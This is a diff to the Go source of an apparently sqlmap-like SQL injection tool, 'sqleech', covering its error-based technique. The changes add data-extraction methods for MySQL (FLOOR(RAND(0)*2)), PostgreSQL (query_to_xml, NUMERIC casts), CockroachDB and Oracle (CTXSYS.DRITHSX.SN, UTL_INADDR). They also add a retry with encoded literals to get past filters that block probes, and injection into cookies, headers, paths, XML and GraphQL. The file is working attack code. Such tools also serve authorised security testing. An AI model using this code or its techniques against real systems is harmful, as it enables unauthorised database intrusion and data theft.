@@ -6,44 +6,117 @@
 // (which requires bit-by-bit extraction) or time-based (which requires delays).
 //
 // Supported DBMS:
-//   - MySQL: extractvalue() and updatexml() XPATH errors with 0x7e (~) delimiter
-//   - PostgreSQL: CAST() type conversion errors
+//   - MySQL: extractvalue() and updatexml() XPATH errors with 0x7e (~) delimiter,
+//     then the FLOOR(RAND(0)*2) duplicate entry error where XML functions are
+//     missing
+//   - PostgreSQL: CAST() type conversion errors, to INT, to NUMERIC with ~
+//     markers, and of query_to_xml() output, where the value comes back
+//     inside an XML element
+//   - Oracle: ORA- errors of failed lookups by CTXSYS.DRITHSX.SN (unknown
+//     thesaurus) and UTL_INADDR.GET_HOST_NAME (unknown host), which quote
+//     the ~-marked value
 package errorbased
 
 import (
 	"context"
 	"fmt"
+	"html"
 	"net/url"
 	"regexp"
 	"strings"
 
 	"github.com/0x6d61/sqleech/internal/dbms"
 	"github.com/0x6d61/sqleech/internal/engine"
+	"github.com/0x6d61/sqleech/internal/graphql"
 	"github.com/0x6d61/sqleech/internal/payload"
+	"github.com/0x6d61/sqleech/internal/payloadlib"
+	"github.com/0x6d61/sqleech/internal/rawquery"
+	"github.com/0x6d61/sqleech/internal/reqparam"
 	"github.com/0x6d61/sqleech/internal/technique"
 	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/xmlbody"
 )
 
-// mysqlChunkSize is the maximum characters MySQL extractvalue/updatexml can
-// return in a single error message (32 chars minus 1 for the ~ prefix).
-const mysqlChunkSize = 31
-
 // maxChunks limits the number of SUBSTRING requests to prevent infinite loops.
 const maxChunks = 50
 
-// prefixSuffixPairs defines common SQL context escape combinations to try.
-// Each pair is (prefix, suffix).
-var prefixSuffixPairs = []struct {
+// boundaryPair is a SQL context escape combination from the payload corpus,
+// or a corpus expression that replaces the value outright.
+type boundaryPair struct {
+	id     string // Payload corpus entry ID
 	prefix string
 	suffix string
-}{
-	{"", "-- "},
-	{"'", "-- "},
-	{"\"", "-- "},
-	{")", "-- "},
-	{"')", "-- "},
-	{"", "#"},
-	{"'", "#"},
+	expr   *payloadlib.Entry // Set for expressions; prefix and suffix are empty
+}
+
+// inject returns the value sent to evaluate the rendered error template.
+func (bp boundaryPair) inject(value, rendered string) string {
+	if bp.expr != nil {
+		return bp.expr.Render(value, rendered)
+	}
+	return value + bp.prefix + " AND " + rendered + bp.suffix
+}
+
+// payload returns the reported payload for the rendered error template.
+func (bp boundaryPair) payload(value, rendered string) *payload.Builder {
+	if bp.expr != nil {
+		return payload.NewBuilder().WithCore(bp.expr.Render(value, rendered))
+	}
+	return payload.NewBuilder().
+		WithPrefix(bp.prefix).
+		WithCore(" AND " + rendered).
+		WithSuffix(bp.suffix)
+}
+
+// prefixSuffixPairs returns the corpus context escape combinations that
+// apply to the named DBMS at req's level, in corpus order.
+func prefixSuffixPairs(dbmsName string, req *technique.InjectionRequest) []boundaryPair {
+	f := payloadlib.ScanFilter(payloadlib.KindBoundary, payloadlib.TechniqueError, dbmsName, technique.Level(req), technique.Risk(req))
+	var pairs []boundaryPair
+	for _, e := range payloadlib.Default().Select(f) {
+		pairs = append(pairs, boundaryPair{id: e.ID, prefix: e.Prefix, suffix: e.Suffix})
+	}
+	return pairs
+}
+
+// boundariesFor returns the boundaries to try with the named DBMS's
+// templates against req: under a LIMIT context hint, the corpus LIMIT
+// expressions and then the ordinary ones, after any whose prefix is
+// recorded in req.State.
+func boundariesFor(dbmsName string, req *technique.InjectionRequest) []boundaryPair {
+	pairs := prefixSuffixPairs(dbmsName, req)
+	if req.Context != payloadlib.ContextLimit {
+		return preferRecorded(pairs, req.State)
+	}
+	f := payloadlib.ScanFilter(payloadlib.KindExpression, payloadlib.TechniqueError, dbmsName, technique.Level(req), technique.Risk(req))
+	f.Context = req.Context
+	var exprs []boundaryPair
+	for _, e := range payloadlib.Default().Select(f) {
+		exprs = append(exprs, boundaryPair{id: e.ID, expr: &e})
+	}
+	return preferRecorded(append(exprs, pairs...), req.State)
+}
+
+// preferRecorded moves the boundaries with the prefix another technique
+// recorded for the parameter to the front, keeping corpus order otherwise.
+func preferRecorded(pairs []boundaryPair, state *engine.ParamState) []boundaryPair {
+	prefix, ok := state.Boundary()
+	if !ok {
+		return pairs
+	}
+	recorded := func(bp boundaryPair) bool { return bp.expr == nil && bp.prefix == prefix }
+	out := make([]boundaryPair, 0, len(pairs))
+	for _, bp := range pairs {
+		if recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	for _, bp := range pairs {
+		if !recorded(bp) {
+			out = append(out, bp)
+		}
+	}
+	return out
 }
 
 // Regex patterns for extracting data from error messages.
@@ -52,13 +125,35 @@ var (
 	// The tilde (0x7e) is used as a delimiter in concat(0x7e, ...) payloads.
 	mysqlTildePattern = regexp.MustCompile(`~([^~']+)`)
 
+	// mysqlDuplicatePattern matches the MySQL duplicate entry error of the
+	// FLOOR(RAND(0)*2) payload: Duplicate entry '<DATA>1' for key. The
+	// payload appends a 0 or 1 to the value, which is left out.
+	mysqlDuplicatePattern = regexp.MustCompile(`Duplicate entry '(.+)[01]' for key`)
+
 	// postgresqlCastPattern matches PostgreSQL CAST type error output:
 	// invalid input syntax for type integer: "<DATA>"
 	postgresqlCastPattern = regexp.MustCompile(`invalid input syntax for type integer: "([^"]+)"`)
 
+	// postgresqlNumericPattern matches the PostgreSQL NUMERIC cast error of
+	// the ~-marked value: invalid input syntax for type numeric: "~<DATA>~"
+	postgresqlNumericPattern = regexp.MustCompile(`invalid input syntax for type numeric: "~(.*?)~"`)
+
+	// cockroachParsePattern matches CockroachDB's wording of the cast
+	// errors, ~-marked or not: could not parse "<DATA>" as type int.
+	cockroachParsePattern = regexp.MustCompile(`could not parse "~?([^"]*?)~?" as type (?:int|decimal)`)
+
+	// postgresqlXMLPattern matches the <sqleech> element of query_to_xml
+	// output quoted in an error, on pages that show it raw or HTML-escaped.
+	postgresqlXMLPattern = regexp.MustCompile(`(?s)(?:<|&lt;)sqleech(?:>|&gt;)(.*?)(?:<|&lt;)/sqleech(?:>|&gt;)`)
+
 	// mssqlConvertPattern matches MSSQL CONVERT/CAST type conversion error output:
 	// Conversion failed when converting the varchar value '<DATA>' to data type int.
 	mssqlConvertPattern = regexp.MustCompile(`(?i)Conversion failed when converting the (?:n?varchar|nchar|char|ntext|text) value '([^']+)' to data type`)
+
+	// oracleLookupPattern matches the Oracle errors of the ~-marked value
+	// failing a lookup: DRG-11701: thesaurus ~<DATA>~ does not exist
+	// (CTXSYS.DRITHSX.SN) or ORA-29257: host ~<DATA>~ unknown (UTL_INADDR).
+	oracleLookupPattern = regexp.MustCompile(`(?s)(?:DRG-11701: thesaurus|ORA-29257: host) ~(.*?)~`)
 )
 
 // ErrorBased implements the error-based SQL injection technique.
@@ -105,11 +200,9 @@ func (e *ErrorBased) Detect(ctx context.Context, req *technique.InjectionRequest
 			continue
 		}
 
-		for _, ps := range prefixSuffixPairs {
-			fullPayload := req.Parameter.Value + ps.prefix + " AND " + rendered + ps.suffix
-
-			probeReq := buildProbeRequest(req.Target, req.Parameter, fullPayload)
-			resp, err := req.Client.Do(ctx, probeReq)
+		for _, ps := range boundariesFor(tmpl.DBMS, req) {
+			req.Coverage.Tried(tmpl.ID, ps.id)
+			resp, sent, _, err := sendRendered(ctx, req, ps, d, rendered)
 			if err != nil {
 				continue
 			}
@@ -117,20 +210,26 @@ func (e *ErrorBased) Detect(ctx context.Context, req *technique.InjectionRequest
 			body := resp.BodyString()
 			extracted := parseErrorResponse(body, tmpl.DBMS)
 			if extracted != "" {
-				p := payload.NewBuilder().
-					WithPrefix(ps.prefix).
-					WithCore(" AND " + rendered).
-					WithSuffix(ps.suffix).
+				req.Coverage.Succeeded(tmpl.ID, ps.id)
+				if ps.expr == nil {
+					req.State.RecordBoundary(ps.prefix)
+				}
+				p := ps.payload(req.Parameter.Value, sent).
 					WithTechnique("error-based").
 					WithDBMS(tmpl.DBMS).
 					Build()
 
+				// The request ID finds the exchange in a traffic log.
+				evidence := extracted
+				if resp.RequestID != 0 {
+					evidence += fmt.Sprintf(" (request #%d)", resp.RequestID)
+				}
 				return &technique.DetectionResult{
 					Injectable: true,
 					Confidence: 0.95,
 					Technique:  "error-based",
 					Payload:    p,
-					Evidence:   extracted,
+					Evidence:   evidence,
 				}, nil
 			}
 		}
@@ -141,8 +240,9 @@ func (e *ErrorBased) Detect(ctx context.Context, req *technique.InjectionRequest
 
 // Extract retrieves the value of a SQL expression using error-based injection.
 //
-// It handles MySQL's extractvalue/updatexml 32-character truncation by using
-// SUBSTRING to extract data in chunks when needed.
+// It handles error messages that cut long values short (MySQL's 32-character
+// XPath, SQL Server's message length limit) by using SUBSTRING to extract
+// data in chunks of the DBMS's ErrorChunkSize when needed.
 func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionRequest) (*technique.ExtractionResult, error) {
 	templates := collectPayloadTemplates(req.DBMS)
 	if len(templates) == 0 {
@@ -161,11 +261,8 @@ func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionReque
 			continue
 		}
 
-		for _, ps := range prefixSuffixPairs {
-			fullPayload := req.Parameter.Value + ps.prefix + " AND " + rendered + ps.suffix
-
-			probeReq := buildProbeRequest(req.Target, req.Parameter, fullPayload)
-			resp, err := req.Client.Do(ctx, probeReq)
+		for _, ps := range boundariesFor(tmpl.DBMS, &req.InjectionRequest) {
+			resp, sent, requests, err := sendRendered(ctx, &req.InjectionRequest, ps, d, rendered)
 			if err != nil {
 				continue
 			}
@@ -176,10 +273,11 @@ func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionReque
 				continue
 			}
 
-			// If the DBMS is MySQL and the data may be truncated (exactly
-			// mysqlChunkSize chars), use SUBSTRING to retrieve in chunks.
-			if tmpl.DBMS == "MySQL" && len(extracted) >= mysqlChunkSize {
-				fullValue, totalRequests := extractChunked(ctx, req, tmpl, d, ps.prefix, ps.suffix)
+			// If the error message may have cut the data short (at least
+			// a full chunk came back), use SUBSTRING to retrieve it in
+			// chunks.
+			if size := d.ErrorChunkSize(); size > 0 && len(extracted) >= size {
+				fullValue, totalRequests := extractChunked(ctx, req, tmpl, d, ps, size, sent != rendered)
 				if fullValue != "" {
 					return &technique.ExtractionResult{
 						Value:    fullValue,
@@ -189,11 +287,11 @@ func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionReque
 				}
 			}
 
-			// Data fits in a single response (or non-MySQL)
+			// Data fits in a single response
 			return &technique.ExtractionResult{
 				Value:    extracted,
 				Partial:  false,
-				Requests: 1,
+				Requests: requests,
 			}, nil
 		}
 	}
@@ -204,29 +302,37 @@ func (e *ErrorBased) Extract(ctx context.Context, req *technique.ExtractionReque
 	}, nil
 }
 
-// extractChunked extracts data in chunks using SUBSTRING for MySQL truncation handling.
+// extractChunked extracts data in chunks of size characters using
+// SUBSTRING, for error messages that truncate long values. encode sends
+// the payloads with their string literals encoded, as the first one had
+// to be.
 func extractChunked(
 	ctx context.Context,
 	req *technique.ExtractionRequest,
 	tmpl dbms.PayloadTemplate,
 	d dbms.DBMS,
-	prefix, suffix string,
+	bp boundaryPair,
+	size int,
+	encode bool,
 ) (string, int) {
 	var result strings.Builder
 	requests := 0
 
 	for chunk := 0; chunk < maxChunks; chunk++ {
-		start := chunk*mysqlChunkSize + 1
-		substringQuery := d.Substring("("+req.Query+")", start, mysqlChunkSize)
+		start := chunk*size + 1
+		substringQuery := d.Substring("("+req.Query+")", start, size)
 
 		rendered, err := renderTemplate(tmpl.Template, substringQuery)
 		if err != nil {
 			break
 		}
+		if encode {
+			rendered = dbms.EncodeLiterals(d, rendered)
+		}
 
-		fullPayload := req.Parameter.Value + prefix + " AND " + rendered + suffix
+		fullPayload := bp.inject(req.Parameter.Value, rendered)
 		probeReq := buildProbeRequest(req.Target, req.Parameter, fullPayload)
-		resp, err := req.Client.Do(ctx, probeReq)
+		resp, err := technique.Send(ctx, &req.InjectionRequest, probeReq)
 		requests++
 		if err != nil {
 			break
@@ -241,7 +347,7 @@ func extractChunked(
 		result.WriteString(extracted)
 
 		// If we got less than a full chunk, we have all the data.
-		if len(extracted) < mysqlChunkSize {
+		if len(extracted) < size {
 			break
 		}
 	}
@@ -249,13 +355,46 @@ func extractChunked(
 	return result.String(), requests
 }
 
+// sendRendered sends the rendered template through bp. When a filter blocks
+// the probe, as one rejecting quotes would, it is sent once more with its
+// string literals encoded by dbms.EncodeLiterals. It returns the response,
+// the rendered form last sent and the number of requests.
+func sendRendered(
+	ctx context.Context,
+	req *technique.InjectionRequest,
+	bp boundaryPair,
+	d dbms.DBMS,
+	rendered string,
+) (*transport.Response, string, int, error) {
+	resp, err := technique.Send(ctx, req, buildProbeRequest(req.Target, req.Parameter, bp.inject(req.Parameter.Value, rendered)))
+	if err != nil || !technique.Blocked(resp, req.Baseline) {
+		return resp, rendered, 1, err
+	}
+	encoded := dbms.EncodeLiterals(d, rendered)
+	if encoded == rendered {
+		return resp, rendered, 1, nil
+	}
+	resp, err = technique.Send(ctx, req, buildProbeRequest(req.Target, req.Parameter, bp.inject(req.Parameter.Value, encoded)))
+	return resp, encoded, 2, err
+}
+
 // parseErrorResponse extracts data from SQL error messages in the response body.
 //
 // For MySQL (extractvalue/updatexml): looks for data after the ~ (0x7e) delimiter
-// in patterns like "XPATH syntax error: '~<DATA>~'" or "~<DATA>'"
+// in patterns like "XPATH syntax error: '~<DATA>~'" or "~<DATA>'"; failing
+// that (floor-rand), in "Duplicate entry '<DATA>1' for key", without the
+// trailing 0 or 1
 //
 // For PostgreSQL (CAST): looks for data in patterns like
-// 'invalid input syntax for type integer: "<DATA>"'
+// 'invalid input syntax for type integer: "<DATA>"', after trying the
+// <sqleech><DATA></sqleech> element of query_to_xml output, whose quoted
+// attributes would cut the integer pattern short, and the ~-marked
+// NUMERIC cast error, then CockroachDB's 'could not parse "<DATA>" as
+// type int'
+//
+// For Oracle (CTXSYS.DRITHSX.SN, UTL_INADDR): looks for the ~-marked data
+// in "DRG-11701: thesaurus ~<DATA>~ does not exist" or
+// "ORA-29257: host ~<DATA>~ unknown"
 //
 // When dbmsName is empty, all patterns are tried.
 func parseErrorResponse(body string, dbmsName string) string {
@@ -263,20 +402,33 @@ func parseErrorResponse(body string, dbmsName string) string {
 		return ""
 	}
 
-	tryMySQL := dbmsName == "" || dbmsName == "MySQL" || dbmsName == "mysql"
-	tryPostgreSQL := dbmsName == "" || dbmsName == "PostgreSQL" || dbmsName == "postgresql" || dbmsName == "postgres"
-	tryMSSQL := dbmsName == "" || dbmsName == "MSSQL" || dbmsName == "mssql" || dbmsName == "sqlserver"
+	tryMySQL := dbmsName == "" || dbms.Family(dbmsName) == "MySQL"
+	tryPostgreSQL := dbmsName == "" || dbms.Family(dbmsName) == "PostgreSQL"
+	tryMSSQL := dbmsName == "" || dbms.Family(dbmsName) == "MSSQL"
+	tryOracle := dbmsName == "" || dbms.Family(dbmsName) == "Oracle"
 
 	if tryMySQL {
 		if matches := mysqlTildePattern.FindStringSubmatch(body); len(matches) > 1 {
 			return matches[1]
 		}
+		if matches := mysqlDuplicatePattern.FindStringSubmatch(body); len(matches) > 1 {
+			return matches[1]
+		}
 	}
 
 	if tryPostgreSQL {
+		if matches := postgresqlXMLPattern.FindStringSubmatch(body); len(matches) > 1 {
+			return unescapeXMLValue(matches[0], matches[1])
+		}
+		if matches := postgresqlNumericPattern.FindStringSubmatch(body); len(matches) > 1 {
+			return matches[1]
+		}
 		if matches := postgresqlCastPattern.FindStringSubmatch(body); len(matches) > 1 {
 			return matches[1]
 		}
+		if matches := cockroachParsePattern.FindStringSubmatch(body); len(matches) > 1 && matches[1] != "" {
+			return matches[1]
+		}
 	}
 
 	if tryMSSQL {
@@ -285,9 +437,25 @@ func parseErrorResponse(body string, dbmsName string) string {
 		}
 	}
 
+	if tryOracle {
+		if matches := oracleLookupPattern.FindStringSubmatch(body); len(matches) > 1 {
+			return matches[1]
+		}
+	}
+
 	return ""
 }
 
+// unescapeXMLValue undoes the XML escaping of a query_to_xml element's
+// value, and the page's HTML escaping on top of it when the element
+// itself was escaped.
+func unescapeXMLValue(element, value string) string {
+	if strings.HasPrefix(element, "&lt;") {
+		value = html.UnescapeString(value)
+	}
+	return html.UnescapeString(value)
+}
+
 // collectPayloadTemplates returns error payload templates for the given DBMS.
 // If dbmsName is empty, templates from all supported DBMS are returned.
 func collectPayloadTemplates(dbmsName string) []dbms.PayloadTemplate {
@@ -350,38 +518,63 @@ func buildProbeRequest(target *engine.ScanTarget, param *engine.Parameter, paylo
 		}
 	}
 
+	payloadStr = param.Encode(payloadStr)
 	switch param.Location {
 	case engine.LocationQuery:
 		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
 	case engine.LocationBody:
 		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
+	case engine.LocationPath:
+		req.URL = reqparam.SetPath(target.URL, param.Name, payloadStr)
+	case engine.LocationCookie:
+		req.Cookies = reqparam.SetCookie(req.Cookies, param.Name, payloadStr)
+	case engine.LocationHeader:
+		req.Headers = reqparam.SetHeader(req.Headers, param.Name, payloadStr)
+	case engine.LocationXML:
+		req.Body = modifyXMLParam(target.Body, param.Name, payloadStr, target.RawXML)
+	case engine.LocationGraphQL:
+		req.Body = modifyGraphQLParam(target.Body, param.Name, payloadStr)
+	case engine.LocationCustom:
+		target.Markers.Apply(req, map[string]string{param.Name: payloadStr})
 	}
 
 	return req
 }
 
-// modifyQueryParam replaces the value of a named query parameter in the URL.
+// modifyQueryParam replaces the value of a named query parameter in the URL,
+// leaving the order and encoding of the other parameters as they were.
 func modifyQueryParam(rawURL, paramName, newValue string) string {
 	parsed, err := url.Parse(rawURL)
 	if err != nil {
 		return rawURL
 	}
-
-	q := parsed.Query()
-	q.Set(paramName, newValue)
-	parsed.RawQuery = q.Encode()
-
+	parsed.RawQuery = rawquery.Set(parsed.RawQuery, paramName, newValue)
 	return parsed.String()
 }
 
 // modifyBodyParam replaces the value of a named parameter in a
-// application/x-www-form-urlencoded body.
+// application/x-www-form-urlencoded body, leaving the order and encoding
+// of the other parameters as they were.
 func modifyBodyParam(body, paramName, newValue string) string {
-	values, err := url.ParseQuery(body)
+	return rawquery.Set(body, paramName, newValue)
+}
+
+// modifyXMLParam replaces the text of the leaf element at path in an XML
+// body, leaving the body unchanged when there is none.
+func modifyXMLParam(body, path, newValue string, raw bool) string {
+	modified, err := xmlbody.Set(body, path, newValue, raw)
 	if err != nil {
 		return body
 	}
+	return modified
+}
 
-	values.Set(paramName, newValue)
-	return values.Encode()
+// modifyGraphQLParam sets the named variable of a GraphQL request body,
+// leaving the body unchanged when there is none.
+func modifyGraphQLParam(body, path, newValue string) string {
+	modified, err := graphql.Set(body, path, newValue)
+	if err != nil {
+		return body
+	}
+	return modified
 }